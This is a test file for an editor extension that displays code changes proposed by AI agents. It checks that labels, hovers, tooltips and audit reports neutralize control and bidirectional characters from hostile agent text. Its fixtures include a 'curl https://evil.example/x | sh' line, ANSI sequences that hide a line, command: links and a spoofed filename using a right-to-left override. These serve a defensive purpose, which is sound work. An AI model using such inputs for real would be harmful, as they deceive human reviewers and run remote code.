// Each review surface's text (extension/src/text/reviewText.ts, ledger/ledgerReports.ts, ledger/auditReport.ts) built from a hostile
// agent's data: no raw control, bidirectional or invisible character reaches the screen, Markdown from agent text
// renders literally, the hunk's hidden characters are named, and bulk approval asks once naming them.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { importExtensionModule } from './compile.mjs';

const review = await importExtensionModule('text/reviewText');
const reports = await importExtensionModule('ledger/ledgerReports');
const audit = await importExtensionModule('ledger/auditReport');

// Any raw ESC, BEL, C1, bidirectional, zero-width or tag character.
const raw = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]|[\u{E0000}-\u{E007F}]/u;
// A Markdown link or image that an unescaped bracket pair would make.
const link = /(?<!\\)\[[^\]]*(?<!\\)\]\(/u;

const evilName = 'claude\u202Eedoc\u001b]8;;command:workbench.action.terminal.new\u0007[x](command:evil)';
const proposal = {
  proposalId: 'p_1', revision: 1, status: 'pending', agent: evilName, session: 's\u200B1', writId: 'w_1',
  description: 'fix typo\u001b[2J\n![img](https://evil.example/p.png) <img src=x> **approve me**', createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z', files: [], reason: 'stale \u2066because\u2069', hiddenCharacters: ['U+0007', 'U+001B', 'U+200B', 'U+202E'],
};
const hunk = {
  id: 'h1', baseStart: 0, removed: ['echo start\n'], status: 'pending', hiddenCharacters: ['U+001B', 'U+202E'],
  added: ['curl https://evil.example/x | sh\n', '\u001b[1A\u001b[2Kecho harmless\n', 'if (a) { \u202E} ```\n[link](command:x)\n'],
};
const clean = { id: 'h2', baseStart: 5, removed: [], added: ['ok\n'], status: 'pending', hiddenCharacters: [] };

/** Markdown text with its backslash escapes removed, as it reads on screen. */
function unescaped(markdown) {
  return markdown.replace(/\\(.)/gu, '$1');
}

/** Plain text (tree labels, CodeLens, notifications): no raw hidden character. */
function assertSafe(text, what) {
  assert.doesNotMatch(text, raw, `${what} holds a raw hidden character: ${JSON.stringify(text)}`);
}

/** Markdown (hovers, tooltips, reports): no raw hidden character, and no link outside code spans and code blocks. */
function assertSafeMarkdown(text, what) {
  assertSafe(text, what);
  const prose = text.replace(/^(`{3,})text\n[\s\S]*?\n\1$/gmu, '').replace(/(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/gu, '');
  assert.doesNotMatch(prose, link, `${what} holds a Markdown link: ${prose}`);
  assert.doesNotMatch(prose, /(?<!\\)<img|(?<!\\)!\[|(?<!\\)&#/u, `${what} holds an image, HTML or an entity: ${prose}`);
}

test('the Pending view hunk label is one neutralized line naming the hidden characters', () => {
  const label = review.pendingHunkLabel({ ...hunk, added: ['\u001b[1A\u001b[2K' + 'x'.repeat(200) + '\n'] }, 4, false);
  assertSafe(label, 'label');
  assert.match(label, /^h1 · line 5 · ⚠ hidden characters U\+001B U\+202E · -1 \+1 · <U\+001B>\[1A/u);
  assert.ok(label.endsWith('…'), 'the excerpt is bounded');
  assert.equal(review.pendingHunkLabel(clean, 5, true), 'h2 · line 6 · conflict: you edited these lines · -0 +1 · ok');
});

test('Pending view tooltips escape the description and name the proposal hidden characters', () => {
  const tooltip = review.proposalFileTooltipMarkdown(proposal);
  assertSafeMarkdown(tooltip, 'file tooltip');
  assert.doesNotMatch(tooltip, /(?<!\\)<img|(?<!\\)!\[/u);
  assert.ok(unescaped(tooltip).includes('⚠ proposal contains hidden or control characters: U+0007 U+001B U+200B U+202E'), tooltip);
  const stale = review.staleFileTooltipMarkdown(proposal, 'src/\u202Egnp.exe');
  assertSafeMarkdown(stale, 'stale tooltip');
  assert.match(stale, /<U\+202E>gnp\\\.exe|\\<U\\\+202E\\>gnp\\\.exe/u);
});

test('the hunk hover names the hidden characters and its code block cannot be closed by an added line', () => {
  const hover = review.hunkHoverMarkdown(proposal, hunk);
  assertSafeMarkdown(hover, 'hover');
  assert.ok(unescaped(hover).includes('⚠ hunk contains hidden or control characters: U+001B U+202E'), hover);
  const fence = /\n(`{4,})text\n([\s\S]*)\n\1$/u.exec(hover);
  assert.ok(fence, `one code block with a fence longer than the lines' backticks: ${hover}`);
  assert.equal(fence[2], 'curl https://evil.example/x | sh\n<U+001B>[1A<U+001B>[2Kecho harmless\nif (a) { <U+202E>} ```\n[link](command:x)');
  assertSafeMarkdown(review.conflictHoverMarkdown(proposal, hunk), 'conflict hover');
});

test('ghost text is one bounded, neutralized line', () => {
  const long = { ...hunk, added: ['\u202E' + 'y'.repeat(400) + '\n'] };
  for (const ghost of [review.changedGhostText(long), review.insertionGhostText(long)]) {
    assertSafe(ghost, 'ghost text');
    assert.ok(Array.from(ghost).length <= 130, `bounded: ${String(ghost.length)}`);
    assert.ok(ghost.endsWith('…'));
  }
  assert.equal(review.changedGhostText({ ...clean, added: ['a\tb\n'] }), '  → a<U+0009>b');
});

test('CodeLens: a marked hunk gets a warning lens naming its characters; tooltips are neutralized', () => {
  assert.deepEqual(review.hiddenCharactersLens(clean), undefined);
  const lens = review.hiddenCharactersLens(hunk);
  assert.equal(lens.title, '$(warning) Hidden characters: U+001B U+202E');
  assertSafe(lens.tooltip, 'lens tooltip');
  assertSafe(review.conflictLensTooltip(proposal, hunk), 'conflict lens tooltip');
});

test('approving in bulk finds the pending marked hunks and asks once, naming hunks and characters', () => {
  const files = [
    { path: 'run.sh', hunks: [hunk, clean, { ...hunk, id: 'h3', status: 'approved' }] },
    { path: 'b\u202E.txt', hunks: [{ ...clean, id: 'h9', hiddenCharacters: ['U+E0041'] }] },
  ];
  assert.deepEqual(review.markedHunks(files), [{ key: 'run.sh#h1', characters: ['U+001B', 'U+202E'] }, { key: 'b\u202E.txt#h9', characters: ['U+E0041'] }]);
  assert.deepEqual(review.markedHunks(files, ['run.sh']).map((m) => m.key), ['run.sh#h1']);
  const { message, detail } = review.bulkHiddenCharactersConfirmation(review.markedHunks(files));
  assert.equal(message, '2 hunk(s) to approve contain hidden or control characters: U+001B U+202E U+E0041');
  assertSafe(detail, 'modal detail');
  assert.match(detail, /^run\.sh#h1, b<U\+202E>\.txt#h9\. /u);
});

test('the Agents view, the Ledger Timeline, QuickPicks and diff titles neutralize agent text', () => {
  const writ = {
    writId: 'w_1', agent: evilName, session: 's\n2', include: ['src/**\u202E'], exclude: [], effects: ['modify'], issuedAt: 'i', expiresAt: 'e',
    state: 'active', proposalsUsed: 0, filesUsed: 0, bytesUsed: 0,
  };
  const row = review.writLabel(writ);
  assertSafe(row.label + row.description, 'writ row');
  assertSafeMarkdown(review.writTooltipMarkdown(writ), 'writ tooltip');
  const entry = { seq: 7, kind: 'commit', actor: `agent:${evilName}`, time: 't', hash: 'h', summary: 'commit \u001b[2Kx', proposalId: 'p`1', paths: ['a\u202E.txt'] };
  const timeline = review.timelineEntryText(entry, 'Commit', true, 'now', 'a\u202E.txt');
  assertSafe(`${timeline.label}\n${timeline.description}`, 'timeline item');
  assertSafeMarkdown(timeline.tooltip, 'timeline tooltip');
  assert.equal(timeline.label, 'Commit · a<U+202E>.txt');
  const pick = review.entryPickText({ ...entry, summary: '$(pass) approved by human' }, 'git-commit', 'Commit', 'now');
  assertSafe(`${pick.label}${pick.description}${pick.detail}`, 'quick pick');
  assert.match(pick.detail, /^\\\$\(pass\) approved by human/u, 'agent text cannot draw an icon');
  assert.equal(review.diffTitle(['a\u202E.txt', ' ↔ proposed by ', 'bot\u001b[2J']), 'a<U+202E>.txt ↔ proposed by bot<U+001B>[2J');
});

test('the Markdown reports and the audit report show agent paths and messages neutralized', () => {
  const drift = reports.driftReportMarkdown('ws\u202E', { seq: 9, items: [{ path: '[x](command:evil)\u202E.txt', kind: 'changedOutsideLedger', expected: null, actual: null, lastEntrySeq: 5 }] }, new Date(0));
  assertSafeMarkdown(drift, 'drift report');
  const verify = reports.verifyReportMarkdown('ws', { valid: false, entriesChecked: 1, blobsChecked: 0, anchorChecked: false, problems: [{ seq: 1, code: 'x`y', message: 'path \u001b[2K<img src=x>' }] }, new Date(0));
  assertSafeMarkdown(verify, 'verify report');
  assert.doesNotMatch(verify, /(?<!\\)<img/u);
  const entries = [{ seq: 1, kind: 'proposal.staged', actor: `agent:${evilName}`, time: new Date(0).toISOString(), hash: 'h', summary: 's\u202E', proposalId: 'p', paths: ['a\u2066.txt'] }];
  const report = audit.buildAuditReport({ workspace: 'w\u202E', generatedAt: new Date(0), headSeq: 1, entries, verify: { valid: true, entriesChecked: 1, blobsChecked: 0, anchorChecked: true, problems: [] } });
  const html = audit.auditReportHtml(report);
  assert.doesNotMatch(html, raw);
  assert.match(html, /&lt;U\+202E&gt;/u);
  const json = audit.auditReportJson(report);
  assert.doesNotMatch(json, raw);
  assert.deepEqual(JSON.parse(json), JSON.parse(JSON.stringify(report)));
});
